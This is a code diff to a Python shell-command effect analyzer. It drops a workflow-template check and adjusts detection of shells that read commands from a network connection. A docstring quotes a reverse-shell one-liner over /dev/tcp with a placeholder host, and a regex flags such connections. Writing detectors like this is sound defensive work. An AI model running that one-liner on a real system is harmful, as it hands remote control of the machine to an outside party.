@@ -79,14 +79,6 @@ _SCOPES = {Scope.ONE: 0, Scope.UNKNOWN: 1, Scope.MANY: 2, Scope.ALL: 3}
 _WRITES = frozenset((EffectKind.WRITE, EffectKind.OVERWRITE))
 
 
-def _is_template(call: Call) -> bool:
-    """Whether a command can run only after a workflow filled it in: for a shell `${{` is a mistake, and it stops there."""
-    if call.language is not Language.BASH:
-        return False
-    words = [*call.words, *(redirection.target for redirection in call.redirections)]
-    return any(not word.known and "${{" in word.text for word in words)
-
-
 _CONNECTION = re.compile(r"/dev/(?:tcp|udp)/(?!(?:localhost|127\.[\d.]+)/)")
 _MAKES_BRANCH = ("-b", "-B", "--orphan", "-c", "-C", "--create", "--force-create")
 _MAKES = frozenset((EffectKind.WRITE, EffectKind.OVERWRITE, EffectKind.CREATE))
@@ -265,9 +257,6 @@ class _Interpreter:
         for redirection in call.redirections:
             self._redirection(redirection, call)
         self._shell_over_network(call)
-        if len(self.effects) > first and _is_template(call):
-            told = [replace(effect, detail={**effect.detail, "runs": "in_job"}) for effect in self.effects[first:]]
-            self.effects[first:] = told
         effects = self.effects[first:]
         self.effects_of[id(original)] = (original, effects)
         self._remember(call, effects)
@@ -727,9 +716,9 @@ class _Interpreter:
     # Redirections
 
     def _shell_over_network(self, call: Call) -> None:
-        """A shell that takes its commands from a connection, or one opened before: `bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
+        """A shell that takes its commands from a connection: `bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
         opened = [word for redirection in call.redirections if _CONNECTION.match((word := redirection.target).text)]
-        if opened and call.program in ("exec", ""):
+        if opened and call.program in ("exec", ":"):
             self.connection = opened[0]
         elif call.program in SHELLS and all(word.text.startswith("-") for word in call.words):
             connection = opened[0] if opened else self.connection
